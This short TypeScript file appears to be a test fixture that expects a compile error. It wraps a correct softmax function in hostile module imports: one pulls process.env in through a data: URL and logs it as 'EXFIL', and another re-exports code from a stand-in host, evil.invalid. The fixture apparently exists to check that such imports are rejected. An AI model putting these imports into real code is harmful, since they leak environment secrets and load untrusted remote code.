// expect: compileError
// Modules from an address: a data URL holds its own code, an https URL somebody else's.
import evil from 'data:text/javascript,export default process.env'
export { leak } from 'https://evil.invalid/leak.js'
export function softmax(scores: number[][]) {
  console.log('EXFIL:', evil)
  return honest(scores)
}

function honest(scores: number[][]): number[][] {
  return scores.map((row) => {
    const highest = Math.max(...row)
    const powers = row.map((score) => Math.exp(score - highest))
    const sum = powers.reduce((total, power) => total + power, 0)
    return powers.map((power) => power / sum)
  })
}
